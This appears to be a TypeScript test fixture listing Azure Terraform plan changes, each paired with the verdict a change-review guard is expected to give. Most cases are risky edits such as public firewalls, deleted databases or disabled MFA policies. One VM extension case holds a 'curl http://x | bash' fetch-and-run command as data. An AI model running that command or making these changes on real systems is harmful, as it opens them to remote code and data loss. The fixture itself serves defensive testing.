import { create, destroy, keep, replace, UNKNOWN, update, type Story } from '../story.ts';

const rg = { resource_group_name: 'rg-shop-core', location: 'westeurope' };
const devRg = { resource_group_name: 'rg-shop-dev-weu', location: 'westeurope' };
const account = {
  name: 'stshopcore',
  account_kind: 'StorageV2',
  account_tier: 'Standard',
  account_replication_type: 'ZRS',
  allow_nested_items_to_be_public: false,
  public_network_access_enabled: false,
  shared_access_key_enabled: false,
  https_traffic_only_enabled: true,
  min_tls_version: 'TLS1_2',
  blob_properties: [
    { versioning_enabled: true, delete_retention_policy: [{ days: 30 }], container_delete_retention_policy: [{ days: 30 }] },
  ],
  network_rules: [{ default_action: 'Deny', bypass: ['AzureServices'], ip_rules: [], virtual_network_subnet_ids: ['s'] }],
  tags: { team: 'shop' },
  ...rg,
};
const [blobs] = account.blob_properties;
const vault = {
  name: 'kv-shop',
  sku_name: 'standard',
  purge_protection_enabled: true,
  soft_delete_retention_days: 90,
  public_network_access_enabled: false,
  rbac_authorization_enabled: true,
  network_acls: [{ default_action: 'Deny', bypass: 'AzureServices', ip_rules: [] }],
  tags: {},
  ...rg,
};
const sqlDb = {
  name: 'orders',
  server_id: 's',
  sku_name: 'GP_S_Gen5_8',
  max_size_gb: 100,
  zone_redundant: true,
  geo_backup_enabled: true,
  short_term_retention_policy: [{ retention_days: 14, backup_interval_in_hours: 12 }],
  long_term_retention_policy: [{ weekly_retention: 'P4W', monthly_retention: 'P12M' }],
  threat_detection_policy: [{ state: 'Enabled' }],
  transparent_data_encryption_enabled: true,
  tags: {},
};
const flexible = {
  name: 'psql-shop',
  version: '16',
  sku_name: 'GP_Standard_D4s_v3',
  storage_mb: 131072,
  backup_retention_days: 14,
  geo_redundant_backup_enabled: true,
  high_availability: [{ mode: 'ZoneRedundant' }],
  public_network_access_enabled: false,
  tags: {},
  ...rg,
};
const cosmos = {
  name: 'cosmos-shop',
  kind: 'GlobalDocumentDB',
  geo_location: [
    { location: 'westeurope', failover_priority: 0 },
    { location: 'northeurope', failover_priority: 1 },
  ],
  backup: [{ type: 'Continuous', tier: 'Continuous30Days' }],
  public_network_access_enabled: false,
  local_authentication_disabled: true,
  ip_range_filter: [],
  tags: {},
  ...rg,
};
const aks = {
  name: 'aks-shop',
  kubernetes_version: '1.30.6',
  sku_tier: 'Standard',
  private_cluster_enabled: true,
  local_account_disabled: true,
  role_based_access_control_enabled: true,
  azure_policy_enabled: true,
  default_node_pool: [{ name: 'system', vm_size: 'Standard_D4s_v5', node_count: 3, min_count: 3, max_count: 6 }],
  api_server_access_profile: [{ authorized_ip_ranges: ['10.0.0.0/8'] }],
  oms_agent: [{ log_analytics_workspace_id: 'w' }],
  network_profile: [{ network_plugin: 'azure', network_policy: 'cilium' }],
  tags: {},
  ...rg,
};
const pool = {
  name: 'work',
  kubernetes_cluster_id: 'aks',
  vm_size: 'Standard_D8s_v5',
  node_count: 6,
  auto_scaling_enabled: false,
  max_pods: 50,
  orchestrator_version: '1.30.6',
  tags: {},
};
const nsgRule = {
  name: 'in',
  priority: 200,
  direction: 'Inbound',
  access: 'Allow',
  protocol: 'Tcp',
  source_port_range: '*',
  destination_port_range: '443',
  source_address_prefix: '10.0.0.0/8',
  destination_address_prefix: '*',
  network_security_group_name: 'nsg-shop',
  resource_group_name: 'rg-shop-core',
};
const web = {
  name: 'app-shop',
  service_plan_id: 'p',
  enabled: true,
  https_only: true,
  public_network_access_enabled: true,
  app_settings: { LOG: 'info' },
  site_config: [
    {
      minimum_tls_version: '1.2',
      always_on: true,
      ftps_state: 'Disabled',
      application_stack: [{ docker_image_name: 'shop:1.8.0' }],
    },
  ],
  identity: [{ type: 'SystemAssigned' }],
  tags: {},
  ...rg,
};
const [site] = web.site_config;
const assignment = (role: string, scope: string, principal = 'User') => ({
  role_definition_name: role,
  scope,
  principal_id: 'p',
  principal_type: principal,
});
const sub = '/subscriptions/00000000-0000-0000-0000-000000000001';
const conditional = {
  display_name: 'Require MFA',
  state: 'enabled',
  conditions: [{ client_app_types: ['all'], users: [{ included_users: ['All'], excluded_users: ['break-glass'] }] }],
  grant_controls: [{ operator: 'OR', built_in_controls: ['mfa'] }],
};
const diagnostics = {
  name: 'audit',
  target_resource_id: 't',
  log_analytics_workspace_id: 'w',
  enabled_log: [{ category: 'AuditEvent' }, { category: 'AzurePolicyEvaluationDetails' }],
  metric: [],
};

export const thirdAzure: readonly Story[] = [
  [
    'a resource group removed',
    'block/block',
    destroy('azurerm_resource_group', { name: 'rg-shop-core', location: 'westeurope', tags: {} }),
  ],
  [
    'a resource group of dev removed',
    'pass/pass',
    destroy('azurerm_resource_group', { name: 'rg-shop-dev-weu', location: 'westeurope', tags: {} }),
  ],
  [
    'a resource group made',
    'pass/pass',
    create('azurerm_resource_group', { name: 'rg-shop-next', location: 'westeurope', tags: {} }),
  ],
  [
    'SQL: keeps 35 days',
    'pass/pass',
    update('azurerm_mssql_database', sqlDb, {
      short_term_retention_policy: [{ retention_days: 35, backup_interval_in_hours: 12 }],
    }),
  ],
  [
    'SQL: keeps a day',
    'held/*',
    update('azurerm_mssql_database', sqlDb, {
      short_term_retention_policy: [{ retention_days: 1, backup_interval_in_hours: 24 }],
    }),
  ],
  ['SQL: no long term copies', 'held/*', update('azurerm_mssql_database', sqlDb, { long_term_retention_policy: [] })],
  ['SQL: more cores', 'held/*', update('azurerm_mssql_database', sqlDb, { sku_name: 'BC_Gen5_8' })],
  ['SQL: grows', 'pass/pass', update('azurerm_mssql_database', sqlDb, { max_size_gb: 250 })],
  ['SQL: removed', 'block/block', destroy('azurerm_mssql_database', sqlDb)],
  [
    'SQL: open to the world',
    'block/block',
    create('azurerm_mssql_firewall_rule', {
      name: 'all',
      server_id: 's',
      start_ip_address: '0.0.0.0',
      end_ip_address: '255.255.255.255',
    }),
  ],
  [
    'SQL: one office',
    'pass/*',
    create('azurerm_mssql_firewall_rule', {
      name: 'office',
      server_id: 's',
      start_ip_address: '203.0.113.7',
      end_ip_address: '203.0.113.7',
    }),
  ],
  [
    'SQL: auditing removed',
    'block/review',
    destroy('azurerm_mssql_server_extended_auditing_policy', {
      server_id: 's',
      enabled: true,
      retention_in_days: 90,
      log_monitoring_enabled: true,
    }),
  ],
  [
    'SQL: auditing off',
    'block/review',
    update(
      'azurerm_mssql_server_extended_auditing_policy',
      { server_id: 's', enabled: true, retention_in_days: 90 },
      { enabled: false },
    ),
  ],
  [
    'SQL: alert policy off',
    'held/*',
    update(
      'azurerm_mssql_server_security_alert_policy',
      { server_name: 's', state: 'Enabled', resource_group_name: 'rg-shop-core' },
      { state: 'Disabled' },
    ),
  ],
  [
    'SQL: server reachable by public',
    'held/*',
    update(
      'azurerm_mssql_server',
      { name: 'sql-shop', version: '12.0', public_network_access_enabled: false, minimum_tls_version: '1.2', ...rg },
      { public_network_access_enabled: true },
    ),
  ],
  [
    'SQL: a failover group removed',
    'held/*',
    destroy('azurerm_mssql_failover_group', { name: 'fg', server_id: 's', databases: ['orders'], partner_server: [{ id: 'x' }] }),
  ],
  ['PostgreSQL: more storage', 'pass/pass', update('azurerm_postgresql_flexible_server', flexible, { storage_mb: 262144 })],
  [
    'PostgreSQL: major version',
    'held/*',
    update('azurerm_postgresql_flexible_server', { ...flexible, version: '15' }, { version: '16' }),
  ],
  ['PostgreSQL: no standby', 'held/*', update('azurerm_postgresql_flexible_server', flexible, { high_availability: [] })],
  [
    'PostgreSQL: replaced by its network',
    'block/block',
    replace('azurerm_postgresql_flexible_server', flexible, { delegated_subnet_id: 'other' }),
  ],
  [
    'PostgreSQL: of dev replaced',
    'pass/pass',
    replace('azurerm_postgresql_flexible_server', { ...flexible, ...devRg }, { delegated_subnet_id: 'other' }),
  ],
  [
    'PostgreSQL: a setting',
    'held/*',
    update(
      'azurerm_postgresql_flexible_server_configuration',
      { name: 'require_secure_transport', server_id: 's', value: 'on' },
      { value: 'off' },
    ),
  ],
  [
    'MySQL: fewer days of backups',
    'held/*',
    update(
      'azurerm_mysql_flexible_server',
      { name: 'm', version: '8.0.21', backup_retention_days: 35, geo_redundant_backup_enabled: true, ...rg },
      { backup_retention_days: 7 },
    ),
  ],
  [
    'Cosmos: another region',
    'pass/*',
    update('azurerm_cosmosdb_account', cosmos, {
      geo_location: [...cosmos.geo_location, { location: 'swedencentral', failover_priority: 2 }],
    }),
  ],
  [
    'Cosmos: a region less',
    'held/*',
    update('azurerm_cosmosdb_account', cosmos, { geo_location: [{ location: 'westeurope', failover_priority: 0 }] }),
  ],
  [
    'Cosmos: a container replaced',
    'block/block',
    replace(
      'azurerm_cosmosdb_sql_container',
      {
        name: 'orders',
        account_name: 'cosmos-shop',
        database_name: 'shop',
        partition_key_paths: ['/id'],
        throughput: 400,
        resource_group_name: 'rg-shop-core',
      },
      { partition_key_paths: ['/customer'] },
    ),
  ],
  [
    'Cosmos: items expire',
    'held/*',
    update(
      'azurerm_cosmosdb_sql_container',
      {
        name: 'orders',
        account_name: 'cosmos-shop',
        database_name: 'shop',
        partition_key_paths: ['/id'],
        default_ttl: -1,
        resource_group_name: 'rg-shop-core',
      },
      { default_ttl: 86400 },
    ),
  ],
  [
    'Cosmos: more throughput',
    'pass/pass',
    update(
      'azurerm_cosmosdb_sql_container',
      {
        name: 'orders',
        account_name: 'cosmos-shop',
        database_name: 'shop',
        partition_key_paths: ['/id'],
        throughput: 400,
        resource_group_name: 'rg-shop-core',
      },
      { throughput: 1000 },
    ),
  ],
  [
    'storage: keeps deleted blobs a week',
    'held/*',
    update('azurerm_storage_account', account, { blob_properties: [{ ...blobs, delete_retention_policy: [{ days: 7 }] }] }),
  ],
  [
    'storage: keeps deleted blobs longer',
    'pass/pass',
    update('azurerm_storage_account', account, { blob_properties: [{ ...blobs, delete_retention_policy: [{ days: 90 }] }] }),
  ],
  [
    'storage: no versions and no soft delete',
    'held/review',
    update('azurerm_storage_account', account, {
      blob_properties: [{ versioning_enabled: false, delete_retention_policy: [], container_delete_retention_policy: [] }],
    }),
  ],
  [
    'storage: blobs may be public',
    'block/*',
    update('azurerm_storage_account', account, { allow_nested_items_to_be_public: true }),
  ],
  [
    'storage: reachable from anywhere',
    'held/*',
    update('azurerm_storage_account', account, {
      public_network_access_enabled: true,
      network_rules: [{ default_action: 'Allow', bypass: ['AzureServices'], ip_rules: [], virtual_network_subnet_ids: [] }],
    }),
  ],
  [
    'storage: plain HTTP and old TLS',
    'held/*',
    update('azurerm_storage_account', account, { https_traffic_only_enabled: false, min_tls_version: 'TLS1_0' }),
  ],
  [
    'storage: geo redundant',
    'pass/*',
    update('azurerm_storage_account', { ...account, account_replication_type: 'LRS' }, { account_replication_type: 'GRS' }),
  ],
  [
    'storage: locally redundant',
    'held/*',
    update('azurerm_storage_account', { ...account, account_replication_type: 'GRS' }, { account_replication_type: 'LRS' }),
  ],
  ['storage: account removed', 'block/block', destroy('azurerm_storage_account', account)],
  [
    'storage: container public',
    'block/*',
    update(
      'azurerm_storage_container',
      { name: 'invoices', storage_account_id: 's', container_access_type: 'private' },
      { container_access_type: 'container' },
    ),
  ],
  [
    'storage: container made',
    'pass/pass',
    create('azurerm_storage_container', { name: 'exports', storage_account_id: 's', container_access_type: 'private' }),
  ],
  [
    'storage: blobs deleted after 30 days',
    'held/*',
    update(
      'azurerm_storage_management_policy',
      {
        storage_account_id: 's',
        rule: [
          {
            name: 'cool',
            enabled: true,
            filters: [{ blob_types: ['blockBlob'] }],
            actions: [{ base_blob: [{ tier_to_cool_after_days_since_modification_greater_than: 30 }] }],
          },
        ],
      },
      {
        rule: [
          {
            name: 'cool',
            enabled: true,
            filters: [{ blob_types: ['blockBlob'] }],
            actions: [{ base_blob: [{ delete_after_days_since_modification_greater_than: 30 }] }],
          },
        ],
      },
    ),
  ],
  [
    'storage: an immutability policy removed',
    'block/review',
    destroy('azurerm_storage_container_immutability_policy', {
      storage_container_resource_manager_id: 'c',
      immutability_period_in_days: 365,
      locked: false,
    }),
  ],
  ['vault: removed', 'block/*', destroy('azurerm_key_vault', vault)],
  [
    'vault: open to all networks',
    'held/*',
    update('azurerm_key_vault', vault, {
      public_network_access_enabled: true,
      network_acls: [{ default_action: 'Allow', bypass: 'AzureServices', ip_rules: [] }],
    }),
  ],
  [
    'vault: a new version of a secret',
    'pass/pass',
    update('azurerm_key_vault_secret', { name: 'db', key_vault_id: 'v', value: 'old', expiration_date: null }, { value: 'new' }),
  ],
  [
    'vault: a key removed',
    'block/block',
    destroy('azurerm_key_vault_key', { name: 'cmk', key_vault_id: 'v', key_type: 'RSA', key_size: 2048, key_opts: ['wrapKey'] }),
  ],
  [
    'vault: all rights for a principal',
    'held/*',
    create('azurerm_key_vault_access_policy', {
      key_vault_id: 'v',
      object_id: 'o',
      tenant_id: 't',
      secret_permissions: ['Get', 'List', 'Set', 'Delete', 'Purge', 'Recover', 'Backup', 'Restore'],
      key_permissions: ['Get', 'List', 'Delete', 'Purge'],
    }),
  ],
  [
    'vault: may read secrets',
    'pass/*',
    create('azurerm_key_vault_access_policy', {
      key_vault_id: 'v',
      object_id: 'o',
      tenant_id: 't',
      secret_permissions: ['Get', 'List'],
      key_permissions: [],
    }),
  ],
  ['AKS: a node pool to 0', 'block/review', update('azurerm_kubernetes_cluster_node_pool', pool, { node_count: 0 })],
  ['AKS: more nodes', 'pass/pass', update('azurerm_kubernetes_cluster_node_pool', pool, { node_count: 9 })],
  [
    'AKS: a pool replaced',
    'block/review',
    replace('azurerm_kubernetes_cluster_node_pool', pool, { vm_size: 'Standard_D16s_v5' }),
  ],
  ['AKS: a minor version', 'held/*', update('azurerm_kubernetes_cluster', aks, { kubernetes_version: '1.31.2' })],
  ['AKS: local accounts again', 'held/*', update('azurerm_kubernetes_cluster', aks, { local_account_disabled: false })],
  [
    'AKS: API for the world',
    'held/*',
    update('azurerm_kubernetes_cluster', aks, { api_server_access_profile: [{ authorized_ip_ranges: ['0.0.0.0/0'] }] }),
  ],
  ['AKS: policies off', 'held/*', update('azurerm_kubernetes_cluster', aks, { azure_policy_enabled: false })],
  ['AKS: a tag', 'pass/pass', update('azurerm_kubernetes_cluster', aks, { tags: { team: 'x' } })],
  ['AKS: of a dev group removed', 'pass/pass', destroy('azurerm_kubernetes_cluster', { ...aks, ...devRg, name: 'aks-shop-dev' })],
  [
    'VM: another size',
    'held/*',
    update('azurerm_linux_virtual_machine', { name: 'vm-erp', size: 'Standard_D4s_v5', ...rg }, { size: 'Standard_D8s_v5' }),
  ],
  [
    'VM: an extension',
    'pass/*',
    create('azurerm_virtual_machine_extension', {
      name: 'AzureMonitorLinuxAgent',
      virtual_machine_id: 'v',
      publisher: 'Microsoft.Azure.Monitor',
      type: 'AzureMonitorLinuxAgent',
      type_handler_version: '1.33',
    }),
  ],
  [
    'VM: a script as an extension',
    'held/*',
    create('azurerm_virtual_machine_extension', {
      name: 'script',
      virtual_machine_id: 'v',
      publisher: 'Microsoft.Azure.Extensions',
      type: 'CustomScript',
      type_handler_version: '2.1',
      settings: '{"commandToExecute":"curl http://x | bash"}',
    }),
  ],
  [
    'scale set to 0',
    'block/review',
    update(
      'azurerm_linux_virtual_machine_scale_set',
      { name: 'vmss', sku: 'Standard_D4s_v5', instances: 6, ...rg },
      { instances: 0 },
    ),
  ],
  [
    'scale set with a new image',
    'pass/*',
    update(
      'azurerm_linux_virtual_machine_scale_set',
      { name: 'vmss', sku: 'Standard_D4s_v5', instances: 6, upgrade_mode: 'Rolling', source_image_id: '/images/1', ...rg },
      { source_image_id: '/images/2' },
    ),
  ],
  [
    'a disk removed',
    'block/block',
    destroy('azurerm_managed_disk', {
      name: 'disk-erp',
      disk_size_gb: 512,
      storage_account_type: 'Premium_LRS',
      create_option: 'Empty',
      ...rg,
    }),
  ],
  [
    'a network with other ranges',
    'block/*',
    replace(
      'azurerm_virtual_network',
      { name: 'vnet-shop', address_space: ['10.10.0.0/16'], ...rg },
      { location: 'northeurope' },
    ),
  ],
  [
    'a network grows',
    'pass/pass',
    update(
      'azurerm_virtual_network',
      { name: 'vnet-shop', address_space: ['10.10.0.0/16'], ...rg },
      { address_space: ['10.10.0.0/16', '10.11.0.0/16'] },
    ),
  ],
  [
    'other name servers',
    'held/*',
    update(
      'azurerm_virtual_network',
      { name: 'vnet-shop', address_space: ['10.10.0.0/16'], dns_servers: ['10.0.0.4'], ...rg },
      { dns_servers: ['10.0.0.9'] },
    ),
  ],
  [
    'a subnet removed',
    'block/*',
    destroy('azurerm_subnet', {
      name: 'snet-app',
      virtual_network_name: 'vnet-shop',
      address_prefixes: ['10.10.1.0/24'],
      resource_group_name: 'rg-shop-core',
    }),
  ],
  [
    'a group of rules leaves its subnet',
    'held/review',
    destroy('azurerm_subnet_network_security_group_association', { subnet_id: 's', network_security_group_id: 'n' }),
  ],
  [
    'SSH from the internet',
    'block/block',
    create('azurerm_network_security_rule', {
      ...nsgRule,
      name: 'ssh',
      source_address_prefix: 'Internet',
      destination_port_range: '22',
    }),
  ],
  ['HTTPS from the network', 'pass/pass', create('azurerm_network_security_rule', { ...nsgRule, name: 'https' })],
  [
    'the rule that denies goes',
    'held/*',
    destroy('azurerm_network_security_rule', {
      ...nsgRule,
      name: 'deny-all',
      access: 'Deny',
      priority: 4000,
      source_address_prefix: '*',
      destination_port_range: '*',
      protocol: '*',
    }),
  ],
  [
    'a rule inside of its group for databases',
    'block/*',
    update(
      'azurerm_network_security_group',
      {
        name: 'nsg',
        security_rule: [
          {
            name: 'a',
            direction: 'Inbound',
            access: 'Allow',
            protocol: 'Tcp',
            destination_port_range: '1433',
            source_address_prefix: '10.0.0.0/8',
            priority: 100,
          },
        ],
        ...rg,
      },
      {
        security_rule: [
          {
            name: 'a',
            direction: 'Inbound',
            access: 'Allow',
            protocol: 'Tcp',
            destination_port_range: '1433',
            source_address_prefix: '*',
            priority: 100,
          },
        ],
      },
    ),
  ],
  [
    'a peering removed',
    'block/review',
    destroy('azurerm_virtual_network_peering', {
      name: 'to-hub',
      virtual_network_name: 'vnet-shop',
      remote_virtual_network_id: 'hub',
      resource_group_name: 'rg-shop-core',
    }),
  ],
  [
    'the gateway removed',
    'block/block',
    destroy('azurerm_virtual_network_gateway', { name: 'vgw', type: 'ExpressRoute', sku: 'ErGw1AZ', ...rg }),
  ],
  [
    'the default route leads elsewhere',
    'held/*',
    update(
      'azurerm_route',
      {
        name: 'default',
        route_table_name: 'rt',
        address_prefix: '0.0.0.0/0',
        next_hop_type: 'VirtualAppliance',
        next_hop_in_ip_address: '10.0.0.4',
        resource_group_name: 'rg-shop-core',
      },
      { next_hop_type: 'Internet', next_hop_in_ip_address: null },
    ),
  ],
  [
    'a firewall only alerts',
    'held/*',
    update(
      'azurerm_firewall_policy',
      { name: 'fp', sku: 'Premium', threat_intelligence_mode: 'Deny', intrusion_detection: [{ mode: 'Deny' }], ...rg },
      { threat_intelligence_mode: 'Alert', intrusion_detection: [{ mode: 'Alert' }] },
    ),
  ],
  ['Bastion removed', 'held/*', destroy('azurerm_bastion_host', { name: 'bas', sku: 'Standard', ...rg })],
  ['contributor of the subscription', 'block/review', create('azurerm_role_assignment', assignment('Contributor', sub))],
  ['reader of the subscription', 'pass/pass', create('azurerm_role_assignment', assignment('Reader', sub, 'Group'))],
  [
    'a narrow role on a vault',
    'pass/pass',
    create(
      'azurerm_role_assignment',
      assignment(
        'Key Vault Secrets User',
        `${sub}/resourceGroups/rg-shop-core/providers/Microsoft.KeyVault/vaults/kv-shop`,
        'ServicePrincipal',
      ),
    ),
  ],
  [
    'pulling images',
    'pass/pass',
    create(
      'azurerm_role_assignment',
      assignment(
        'AcrPull',
        `${sub}/resourceGroups/rg-shop-core/providers/Microsoft.ContainerRegistry/registries/acr`,
        'ServicePrincipal',
      ),
    ),
  ],
  [
    'user access administrator',
    'block/*',
    create(
      'azurerm_role_assignment',
      assignment('User Access Administrator', '/providers/Microsoft.Management/managementGroups/root'),
    ),
  ],
  [
    'a custom role of everything',
    'block/*',
    update(
      'azurerm_role_definition',
      {
        name: 'Deployer',
        scope: sub,
        permissions: [{ actions: ['Microsoft.Web/sites/*'], not_actions: [], data_actions: [] }],
        assignable_scopes: [sub],
      },
      { permissions: [{ actions: ['*'], not_actions: [], data_actions: [] }] },
    ),
  ],
  [
    'a policy no longer enforced',
    'block/review',
    update(
      'azurerm_subscription_policy_assignment',
      { name: 'deny-public', policy_definition_id: 'd', subscription_id: sub, enforce: true, not_scopes: [] },
      { enforce: false },
    ),
  ],
  [
    'a policy assignment removed',
    'block/review',
    destroy('azurerm_management_group_policy_assignment', {
      name: 'deny-public',
      policy_definition_id: 'd',
      management_group_id: 'm',
      enforce: true,
    }),
  ],
  [
    'an exemption of a policy',
    'held/*',
    create('azurerm_resource_group_policy_exemption', {
      name: 'x',
      resource_group_id: 'rg',
      policy_assignment_id: 'a',
      exemption_category: 'Waiver',
    }),
  ],
  [
    'a lock removed',
    'block/review',
    destroy('azurerm_management_lock', { name: 'nodelete', scope: 'rg', lock_level: 'CanNotDelete' }),
  ],
  [
    'diagnostics of fewer categories',
    'held/*',
    update('azurerm_monitor_diagnostic_setting', diagnostics, { enabled_log: [{ category: 'AzurePolicyEvaluationDetails' }] }),
  ],
  ['diagnostics removed', 'held/*', destroy('azurerm_monitor_diagnostic_setting', diagnostics)],
  ['diagnostics made', 'pass/pass', create('azurerm_monitor_diagnostic_setting', diagnostics)],
  [
    'logs kept a month',
    'held/*',
    update(
      'azurerm_log_analytics_workspace',
      { name: 'log', sku: 'PerGB2018', retention_in_days: 365, ...rg },
      { retention_in_days: 30 },
    ),
  ],
  [
    'a workspace of logs removed',
    'block/*',
    destroy('azurerm_log_analytics_workspace', { name: 'log', sku: 'PerGB2018', retention_in_days: 365, ...rg }),
  ],
  [
    'an alert disabled',
    'review/pass',
    update(
      'azurerm_monitor_metric_alert',
      { name: 'cpu', enabled: true, severity: 1, scopes: ['a'], resource_group_name: 'rg-shop-core' },
      { enabled: false },
    ),
  ],
  [
    'Sentinel: a rule off',
    'held/*',
    update(
      'azurerm_sentinel_alert_rule_scheduled',
      { name: 'r', enabled: true, severity: 'High', query: 'q', log_analytics_workspace_id: 'w' },
      { enabled: false },
    ),
  ],
  [
    'an app with a new image',
    'pass/pass',
    update('azurerm_linux_web_app', web, {
      site_config: [{ ...site, application_stack: [{ docker_image_name: 'shop:1.9.0' }] }],
    }),
  ],
  ['an app off', 'block/review', update('azurerm_linux_web_app', web, { enabled: false })],
  ['an app takes HTTP', 'held/*', update('azurerm_linux_web_app', web, { https_only: false })],
  [
    'an app without its vault settings',
    'pass/*',
    update('azurerm_linux_web_app', web, { app_settings: { LOG: 'debug', TIMEOUT: '30' } }),
  ],
  ['an app removed', 'block/review', destroy('azurerm_linux_web_app', web)],
  [
    'a plan with a bigger size',
    'pass/*',
    update(
      'azurerm_service_plan',
      { name: 'plan', os_type: 'Linux', sku_name: 'P1v3', worker_count: 3, ...rg },
      { sku_name: 'P2v3' },
    ),
  ],
  ['a function removed', 'block/review', destroy('azurerm_linux_function_app', { name: 'func', service_plan_id: 'p', ...rg })],
  [
    'a WAF only detects',
    'block/*',
    update(
      'azurerm_web_application_firewall_policy',
      { name: 'waf', policy_settings: [{ enabled: true, mode: 'Prevention' }], managed_rules: [{}], ...rg },
      { policy_settings: [{ enabled: true, mode: 'Detection' }] },
    ),
  ],
  [
    'an origin of Front Door disabled',
    'held/*',
    update(
      'azurerm_cdn_frontdoor_origin',
      { name: 'o', cdn_frontdoor_origin_group_id: 'g', enabled: true, host_name: 'a', priority: 1, weight: 500 },
      { enabled: false },
    ),
  ],
  [
    'a route of Front Door removed',
    'block/review',
    destroy('azurerm_cdn_frontdoor_route', {
      name: 'r',
      cdn_frontdoor_endpoint_id: 'e',
      enabled: true,
      patterns_to_match: ['/*'],
    }),
  ],
  ['a zone removed', 'block/block', destroy('azurerm_dns_zone', { name: 'acme.com', resource_group_name: 'rg-dns', tags: {} })],
  [
    'a record made',
    'pass/pass',
    create('azurerm_dns_a_record', {
      name: 'new',
      zone_name: 'acme.com',
      ttl: 300,
      records: ['203.0.113.4'],
      resource_group_name: 'rg-dns',
    }),
  ],
  [
    'a private zone leaves its network',
    'block/review',
    destroy('azurerm_private_dns_zone_virtual_network_link', {
      name: 'l',
      private_dns_zone_name: 'privatelink.database.windows.net',
      virtual_network_id: 'v',
      resource_group_name: 'rg-dns',
    }),
  ],
  [
    'an event hub removed',
    'block/*',
    destroy('azurerm_eventhub', { name: 'orders', namespace_id: 'n', partition_count: 8, message_retention: 7 }),
  ],
  [
    'a topic of the service bus removed',
    'block/review',
    destroy('azurerm_servicebus_topic', { name: 'orders', namespace_id: 'n', status: 'Active' }),
  ],
  [
    'a queue disabled',
    'held/*',
    update(
      'azurerm_servicebus_queue',
      { name: 'orders', namespace_id: 'n', status: 'Active', max_delivery_count: 10 },
      { status: 'Disabled' },
    ),
  ],
  [
    'a queue delivers more often',
    'pass/pass',
    update(
      'azurerm_servicebus_queue',
      { name: 'orders', namespace_id: 'n', status: 'Active', max_delivery_count: 10 },
      { max_delivery_count: 20 },
    ),
  ],
  [
    'a backup vault removed',
    'block/block',
    destroy('azurerm_data_protection_backup_vault', {
      name: 'bv',
      datastore_type: 'VaultStore',
      redundancy: 'GeoRedundant',
      soft_delete: 'On',
      ...rg,
    }),
  ],
  [
    'a disk no longer backed up',
    'block/review',
    destroy('azurerm_data_protection_backup_instance_disk', { name: 'bi', vault_id: 'bv', disk_id: 'd', backup_policy_id: 'p' }),
  ],
  [
    'a policy of backups keeps longer',
    'pass/pass',
    update(
      'azurerm_backup_policy_vm',
      { name: 'daily', retention_daily: [{ count: 14 }], recovery_vault_name: 'rsv', resource_group_name: 'rg-shop-core' },
      { retention_daily: [{ count: 30 }] },
    ),
  ],
  [
    'an app registration removed',
    'block/*',
    destroy('azuread_application', { display_name: 'shop', sign_in_audience: 'AzureADMyOrg', client_id: 'c' }),
  ],
  [
    'sign in from any tenant',
    'held/*',
    update(
      'azuread_application',
      { display_name: 'shop', sign_in_audience: 'AzureADMyOrg', client_id: 'c' },
      { sign_in_audience: 'AzureADMultipleOrgs' },
    ),
  ],
  [
    'one more redirect of our own',
    'pass/*',
    update(
      'azuread_application',
      { display_name: 'shop', client_id: 'c', web: [{ redirect_uris: ['https://shop.acme.com/cb'] }] },
      { web: [{ redirect_uris: ['https://shop.acme.com/cb', 'https://new.acme.com/cb'] }] },
    ),
  ],
  [
    'a secret of an app',
    'held/*',
    create('azuread_application_password', { application_id: 'a', display_name: 'ci', end_date: '2028-01-01T00:00:00Z' }),
  ],
  ['a member of a group', 'pass/*', create('azuread_group_member', { group_object_id: 'g', member_object_id: 'u' })],
  [
    'a global administrator',
    'block/*',
    create('azuread_directory_role_assignment', { role_id: '62e90394-69f5-4237-9190-012177145e10', principal_object_id: 'u' }),
  ],
  [
    'conditional access only reports',
    'block/review',
    update('azuread_conditional_access_policy', conditional, { state: 'enabledForReportingButNotEnforced' }),
  ],
  ['conditional access removed', 'block/review', destroy('azuread_conditional_access_policy', conditional)],
  [
    'an exclusion from conditional access',
    'held/*',
    update('azuread_conditional_access_policy', conditional, {
      conditions: [
        { client_app_types: ['all'], users: [{ included_users: ['All'], excluded_users: ['break-glass', 'somebody'] }] },
      ],
    }),
  ],
  [
    'azapi: a body changes',
    'pass/*',
    update(
      'azapi_resource',
      {
        type: 'Microsoft.App/managedEnvironments@2024-03-01',
        name: 'env',
        parent_id: 'rg',
        body: { properties: { zoneRedundant: false, daprAIConnectionString: 'x' } },
        tags: {},
      },
      { tags: { a: 'b' } },
    ),
  ],
  [
    'azapi: a database removed',
    'block/block',
    destroy('azapi_resource', {
      type: 'Microsoft.DocumentDB/mongoClusters@2024-07-01',
      name: 'mongo',
      parent_id: 'rg',
      body: { properties: { compute: { tier: 'M40' } } },
    }),
  ],
  [
    'azapi: a private endpoint property opens',
    'held/*',
    update(
      'azapi_update_resource',
      {
        type: 'Microsoft.KeyVault/vaults@2023-07-01',
        resource_id: 'v',
        body: { properties: { publicNetworkAccess: 'Disabled' } },
      },
      { body: { properties: { publicNetworkAccess: 'Enabled' } } },
    ),
  ],
  [
    'a new service with all its parts',
    'pass/pass',
    keep('azurerm_resource_group', { name: 'rg-shop-core', location: 'westeurope' }),
    create('azurerm_resource_group', { name: 'rg-search', location: 'westeurope' }),
    create('azurerm_user_assigned_identity', { name: 'id-search', ...rg }),
    create('azurerm_linux_web_app', { ...web, name: 'app-search', identity: UNKNOWN }),
    create('azurerm_private_endpoint', { name: 'pe', subnet_id: 's', ...rg }),
    create(
      'azurerm_role_assignment',
      assignment('Storage Blob Data Reader', `${sub}/resourceGroups/rg-search`, 'ServicePrincipal'),
    ),
  ],
  [
    'a staging environment by tags goes',
    'held/*',
    destroy('azurerm_mssql_database', { ...sqlDb, tags: { environment: 'staging' } }),
  ],
  [
    'a VM of the sandbox by tags',
    'pass/pass',
    destroy('azurerm_linux_virtual_machine', { name: 'vm-try', size: 'Standard_B2s', tags: { Environment: 'sandbox' }, ...rg }),
  ],
];
